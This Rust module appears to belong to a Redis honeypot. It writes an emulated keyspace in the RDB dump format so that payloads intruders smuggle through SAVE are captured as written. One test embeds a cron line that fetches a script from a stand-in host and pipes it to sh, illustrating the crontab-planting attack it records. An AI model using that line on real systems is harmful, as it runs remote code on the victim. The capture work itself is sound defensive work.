//! The dump that SAVE writes, in the format of the server (RDB), so that what an intruder smuggles
//! through it (a crontab between line feeds, a key for authorized_keys) is captured as it would have
//! reached the disk.
//!
//! Source: <https://rdb.fnordig.de/file_format.html>; the checksum is CRC-64/Redis (Jones).

use super::{
    keyspace::Keyspace,
    value::{Value, members, ordered},
};

/// The key space as a dump file. `version` is the server's, `now` in µs.
pub(super) fn dump(keys: &Keyspace, version: &str, major: u32, now: i64, used: usize) -> Vec<u8> {
    let format = match major {
        0..=5 => "0009",
        6 => "0009",
        _ => "0010",
    };
    let mut out = format!("REDIS{format}").into_bytes();
    for (key, value) in [
        ("redis-ver", version.to_owned()),
        ("redis-bits", "64".to_owned()),
        ("ctime", (now / 1_000_000).to_string()),
        ("used-mem", used.to_string()),
    ] {
        out.push(0xfa);
        text(key.as_bytes(), &mut out);
        text(value.as_bytes(), &mut out);
    }
    databases(keys, &mut out);
    out.push(0xff);
    let sum = crc64(&out);
    out.extend_from_slice(&sum.to_le_bytes());
    out
}

fn databases(keys: &Keyspace, out: &mut Vec<u8>) {
    let sizes = keys.summary(0);
    let mut current = None;
    for (number, key, value, expires) in keys.all() {
        if current != Some(number) {
            current = Some(number);
            let found = sizes.iter().find(|(known, ..)| *known == number).copied();
            let (_, count, expiring, _) = found.unwrap_or_default();
            out.push(0xfe);
            length(number, out);
            out.push(0xfb);
            length(count, out);
            length(expiring, out);
        }
        if let Some(at) = expires {
            out.push(0xfc);
            out.extend_from_slice(&(at / 1000).to_le_bytes());
        }
        entry(key, value, out);
    }
}

fn entry(key: &[u8], value: &Value, out: &mut Vec<u8>) {
    out.push(kind(value));
    text(key, out);
    body(value, out);
}

/// The byte that says how a value is written. A stream is written as the list of its words, which keeps
/// what is in it readable.
fn kind(value: &Value) -> u8 {
    match value {
        Value::Text(_) => 0,
        Value::List(_) | Value::Stream(_) => 1,
        Value::Set(_) => 2,
        Value::Hash(_) => 4,
        Value::Sorted(_) => 5,
    }
}

fn body(value: &Value, out: &mut Vec<u8>) {
    match value {
        Value::Text(bytes) => text(bytes, out),
        Value::List(items) => {
            length(items.len(), out);
            items.iter().for_each(|item| text(item, out));
        }
        Value::Set(items) => {
            length(items.len(), out);
            members(items).iter().for_each(|item| text(item, out));
        }
        Value::Hash(pairs) => {
            length(pairs.len(), out);
            for (name, value) in pairs {
                text(name, out);
                text(value, out);
            }
        }
        Value::Sorted(scores) => {
            length(scores.len(), out);
            for (member, score) in ordered(scores) {
                text(member, out);
                out.extend_from_slice(&score.to_le_bytes());
            }
        }
        Value::Stream(stream) => {
            length(stream.entries.values().map(Vec::len).sum(), out);
            stream.entries.values().flatten().for_each(|word| text(word, out));
        }
    }
}

/// What DUMP returns: a value with the format's version and a checksum behind it.
pub(super) fn payload(value: &Value) -> Vec<u8> {
    let mut out = vec![kind(value)];
    body(value, &mut out);
    out.extend_from_slice(&[10, 0]);
    let sum = crc64(&out);
    out.extend_from_slice(&sum.to_le_bytes());
    out
}

/// The value of a payload that DUMP returned.
pub(super) fn value(payload: &[u8]) -> Option<Value> {
    let (checked, sum) = payload.split_at_checked(payload.len().checked_sub(8)?)?;
    if crc64(checked).to_le_bytes() != sum {
        return None;
    }
    let (&kind, rest) = checked.get(..checked.len().checked_sub(2)?)?.split_first()?;
    let mut rest = rest;
    if kind == 0 {
        return Some(Value::Text(take_text(&mut rest)?));
    }
    let count = take_length(&mut rest)?.min(rest.len());
    Some(match kind {
        1 => Value::List((0..count).map(|_| take_text(&mut rest)).collect::<Option<_>>()?),
        2 => Value::Set((0..count).map(|_| take_text(&mut rest)).collect::<Option<_>>()?),
        4 => Value::Hash(
            (0..count)
                .map(|_| Some((take_text(&mut rest)?, take_text(&mut rest)?)))
                .collect::<Option<_>>()?,
        ),
        5 => Value::Sorted(
            (0..count)
                .map(|_| Some((take_text(&mut rest)?, take_score(&mut rest)?)))
                .collect::<Option<_>>()?,
        ),
        _ => return None,
    })
}

fn take_score(rest: &mut &[u8]) -> Option<f64> {
    let (bytes, after) = rest.split_first_chunk()?;
    *rest = after;
    Some(f64::from_le_bytes(*bytes))
}

fn take_text(rest: &mut &[u8]) -> Option<Vec<u8>> {
    let length = take_length(rest)?;
    let (text, after) = rest.split_at_checked(length)?;
    *rest = after;
    Some(text.to_vec())
}

fn take_length(rest: &mut &[u8]) -> Option<usize> {
    let (first, after) = rest.split_first()?;
    let (length, after) = match first >> 6 {
        0 => (usize::from(first & 0x3f), after),
        1 => {
            let (second, after) = after.split_first()?;
            (usize::from(first & 0x3f) << 8 | usize::from(*second), after)
        }
        _ => {
            let (bytes, after) = after.split_first_chunk()?;
            (usize::try_from(u32::from_be_bytes(*bytes)).ok()?, after)
        }
    };
    *rest = after;
    Some(length)
}

fn text(bytes: &[u8], out: &mut Vec<u8>) {
    length(bytes.len(), out);
    out.extend_from_slice(bytes);
}

fn length(value: usize, out: &mut Vec<u8>) {
    let value = u32::try_from(value).unwrap_or(u32::MAX);
    let [first, second, third, fourth] = value.to_be_bytes();
    match value {
        0..=0x3f => out.push(fourth),
        0x40..=0x3fff => out.extend_from_slice(&[0x40 | third, fourth]),
        _ => out.extend_from_slice(&[0x80, first, second, third, fourth]),
    }
}

fn crc64(bytes: &[u8]) -> u64 {
    const POLYNOMIAL: u64 = 0x95ac_9329_ac4b_c9b5;
    let mut crc: u64 = 0;
    for &byte in bytes {
        crc ^= u64::from(byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 { (crc >> 1) ^ POLYNOMIAL } else { crc >> 1 };
        }
    }
    crc
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_checksum_is_the_one_of_the_server() {
        // The check value in crc64.c of the server.
        assert_eq!(crc64(b"123456789"), 0xe9c6_d914_c4b8_d9ca);
    }

    #[test]
    fn what_was_dumped_is_read_back() {
        for kept in [
            Value::Text(vec![b'a'; 500]),
            Value::List([b"x".to_vec(), b"y".to_vec()].into()),
            Value::Hash([(b"f".to_vec(), b"v".to_vec())].into()),
            Value::Sorted([(b"m".to_vec(), 1.5)].into()),
        ] {
            assert_eq!(value(&payload(&kept)), Some(kept));
        }
        assert_eq!(value(b"abc"), None);
    }

    #[test]
    fn a_smuggled_line_stands_whole_in_the_dump() {
        let mut keys = Keyspace::new(1, Default::default());
        let line = b"\n\n*/1 * * * * curl http://192.0.2.9/x | sh\n\n".to_vec();
        keys.set(0, b"x", Value::Text(line.clone()), 0, None).unwrap();
        let dump = dump(&keys, "6.0.16", 6, 0, 1);
        assert!(dump.starts_with(b"REDIS0009"));
        assert!(dump.windows(line.len()).any(|window| window == line));
    }
}
